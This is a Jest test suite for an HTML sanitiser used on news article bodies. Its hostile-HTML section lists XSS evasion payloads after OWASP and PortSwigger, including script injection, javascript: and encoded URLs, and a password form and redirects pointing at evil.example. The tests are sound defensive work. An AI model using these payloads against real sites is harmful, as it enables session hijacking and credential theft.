import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { standfirstOf } from '../summary/standfirst-of.js';
import { plainText } from './plain-text.js';
import { sanitise } from './sanitise.js';
import { tame } from './tame.js';

const base = 'https://paper.example/world/story';
const html = (dirty: string) => sanitise(dirty, base).html;
const allowed = /<\/?(?:p|h2|h3|blockquote|ul|ol|li|em|strong|sub|sup|br)>|<a href="https?:\/\/[^"<>]*">|<\/a>/g;

/** Nothing is left that a browser would act on: what remains beside the allowed tags is text. */
function expectHarmless(clean: string): void {
  expect(clean.replace(allowed, '')).not.toMatch(/[<>]/);
}

/** Balanced, and each element where the HTML standard allows it. */
function expectSound(clean: string): void {
  const open: string[] = [];
  for (const [, slash, name] of clean.matchAll(/<(\/?)([a-z0-9]+)[^>]*>/g)) {
    if (name === 'br') continue;
    if (slash) expect(open.pop()).toBe(name);
    else {
      const parent = open.at(-1) ?? 'body';
      const block = /^(?:p|h2|h3|ul|ol|blockquote)$/.test(name!);
      if (name === 'li') expect(parent).toMatch(/^[uo]l$/);
      else expect(parent).toMatch(block ? /^(?:body|blockquote|li)$/ : /^(?:p|h2|h3|li|a|em|strong|sub|sup)$/);
      open.push(name!);
    }
  }
  expect(open).toEqual([]);
}

describe('a body', () => {
  it('keeps what an article is made of', () => {
    expect(
      html(
        '<h1>Sub</h1><p>A <b>bold</b> <i>word</i>, <a href="/x?a=1&amp;b=2" onclick="x()">a link</a>.</p><ul><li>one<li>two</ul><blockquote>said</blockquote>',
      ),
    ).toBe(
      '<h2>Sub</h2>\n<p>A <strong>bold</strong> <em>word</em>, <a href="https://paper.example/x?a=1&amp;b=2">a link</a>.</p>\n' +
        '<ul><li>one</li>\n<li>two</li>\n</ul>\n<blockquote><p>said</p>\n</blockquote>',
    );
  });

  it.each([
    ['loose text', 'one<br><br>two', '<p>one</p>\n<p>two</p>'],
    ['divisions', '<div>one</div><div>two<div>three</div></div>', '<p>one</p>\n<p>two</p>\n<p>three</p>'],
    ['a block in a paragraph', '<p>one<ul><li>x</li></ul>two</p>', '<p>one</p>\n<ul><li>x</li>\n</ul>\n<p>two</p>'],
    ['unclosed tags', '<p>one <em>two<p>three', '<p>one <em>two</em></p>\n<p>three</p>'],
    ['an item without a list', '<li>one</li>', '<p>one</p>'],
    ['text in a list', '<ul>one</ul>', '<ul><li>one</li>\n</ul>'],
    [
      'a link in a link',
      '<a href="/a">one <a href="/b">two</a></a>',
      '<p><a href="https://paper.example/a">one two</a></p>',
    ],
    ['a link that leads nowhere', '<p><a name="x">one</a></p>', '<p>one</p>'],
    ['empty elements', '<p> </p><p>&nbsp;</p><h2></h2><p><em></em>x</p>', '<p>x</p>'],
    ['a table', '<table><tr><td>one</td></tr><tr><td>two</td></tr></table>', '<p>one</p>\n<p>two</p>'],
    ['overrides of direction', '<p>a\u202eb&#x202e;c\u2066d</p>', '<p>abcd</p>'],
    ['NUL and control characters', '<p>a\0b\u0007c</p>', '<p>abc</p>'],
  ])('sets right: %s', (_name, dirty, clean) => expect(html(dirty)).toBe(clean));

  it('sets pictures apart, with their captions, and leaves out counters', () => {
    const { html: text, figures } = sanitise(
      '<p>One.</p><figure><a href="/big"><img src="/p.jpg" alt="A &quot;p&quot;" onerror="x()"></a><figcaption>Who &amp; <b>where</b></figcaption></figure>' +
        '<p>Two <img src="//cdn.example/q.png" width="600">.</p><img src="/t.gif" width="1" height="1"><img src="data:image/png;base64,AAAA">',
      base,
    );
    expect(text).toBe('<p>One.</p>\n<p>Two .</p>');
    expect(figures).toEqual([
      { src: 'https://paper.example/p.jpg', alt: 'A "p"', caption: 'Who & where', credit: '' },
      { src: 'https://cdn.example/q.png', alt: '', caption: '', credit: '' },
    ]);
  });

  it('does not lose the text after a figure that is never closed', () => {
    expect(html('<figure><img src="/p.jpg"><p>The rest.</p>')).toBe('<p>The rest.</p>');
  });
});

/** After OWASP's XSS filter evasion and PortSwigger's cheat sheets. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<p style="x:expression(alert(1))" class="a" id="b">x</p>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio autoplay onplay=alert(1)>',
  '<body onload=alert(1)><details open ontoggle=alert(1)>x',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>',
  '<p>{{ "x" | raw }} {% include "/etc/passwd" %}</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<a href="https://x.example" target="_blank" ping="https://evil.example">x</a>',
  '\u003c\u0000script>alert(1)</script>',
  '<p title="<script>alert(1)</script>">x</p>',
];

describe('hostile HTML', () => {
  it.each(payloads)('%s', (payload) => {
    const clean = html(`<p>before</p>${payload}<p>after</p>`);
    expectHarmless(clean);
    expect(clean).not.toContain('secret');
    for (const { src } of sanitise(payload, base).figures) expect(src).toMatch(/^https?:\/\/(?!.*@)/);
  });

  it('whatever comes, only allowed tags go out, and cleaning twice changes nothing', () => {
    const piece = fc.constantFrom(
      '<p>',
      '</p>',
      '<div>',
      '</div>',
      '<ul>',
      '<li>',
      '</ul>',
      '<a href="/x">',
      '</a>',
      '<b>',
      '</b>',
      '<br>',
      '<h2>',
      '</h2>',
      '<blockquote>',
      '</blockquote>',
      '<figure>',
      '<img src="/x.jpg">',
      '<figcaption>',
      '</figure>',
      '<',
      '>',
      '"',
      '&',
      'text ',
      '<script>',
      '</script>',
      '<!--',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 30 }), (pieces) => {
        const clean = html(pieces.join(''));
        expectHarmless(clean);
        expectSound(clean);
        expect(html(clean).replace(/\s+/g, '')).toBe(clean.replace(/\s+/g, ''));
      }),
      { numRuns: 500 },
    );
  });

  it('gives nothing to the parser that nests too deeply', () => {
    for (const evil of ['<b>', '<ul><li>', '<li><p>', '<td><b>'])
      expect(tame(`${evil}x`.repeat(260))).not.toContain('<');
    for (const usual of ['<p>x', '<p>x</p>', '<br>x', '<ul><li>x<li>y</ul>', '<b>x</b>'])
      expect(tame(usual.repeat(1_000))).toBe(usual.repeat(1_000));
  });

  /** CPU time, so that a busy machine makes nothing red. */
  function cpuMs(work: () => unknown): number {
    const before = process.cpuUsage();
    work();
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1000;
  }

  const pieces = [
    ...[
      '<p',
      '<p>',
      '</p>',
      '<div>',
      '<br>',
      '<br> ',
      ' ',
      '\u00a0',
      '&',
      '&#',
      '<',
      '<!--',
      '<![CDATA[',
      '<a href="',
      '<a href="/x">',
    ],
    ...[
      '<ul><li>',
      '<li>',
      '<li>x<br><br>',
      '<b>',
      '<em>',
      '</em>',
      ' <em> </em>',
      '<em></em><br>',
      '<td><b>',
      '<h2>x',
      '<blockquote>',
    ],
    ...[
      '<figure>',
      '<img src="/a.jpg">',
      '<figcaption>x',
      '</figcaption>',
      '<img src="',
      'word ',
      'M. ',
      '“',
      '\n',
      '<svg><style>',
    ],
  ];
  interface Family {
    head: string;
    repeated: string;
    tail: string;
  }
  const textOf = ({ head, repeated, tail }: Family) => head + repeated.repeat(200_000 / repeated.length) + tail;
  const family = fc.record<Family>({
    head: fc.constantFrom('', '<p>x', '<ul><li>'),
    repeated: fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 3 }).map((some) => some.join('')),
    tail: fc.constantFrom('', 'y</p>'),
  });
  /** Each took seconds once. */
  const slowOnce = [' <em> </em>', '<em></em><br>', '<li>x<br><br>', 'M. ', '<p'];

  it('takes no longer than 250 ms over 200 KB, however they are made', () => {
    const work = (text: string) => standfirstOf(plainText(text), { title: 'x', html: html(text), language: 'en' });
    const usual = () => cpuMs(() => work('<p>A <b>usual</b> paragraph of words.</p>'.repeat(4_700)));
    usual();
    const allowed = Math.max(250, 8 * usual()); // a slow machine is slow with usual texts, too
    fc.assert(
      fc.property(family, (one) => expect(cpuMs(() => work(textOf(one)))).toBeLessThan(allowed)),
      { numRuns: 30, examples: slowOnce.map((repeated) => [{ head: '<p>x', repeated, tail: 'y</p>' }]) },
    );
  }, 120_000);
});
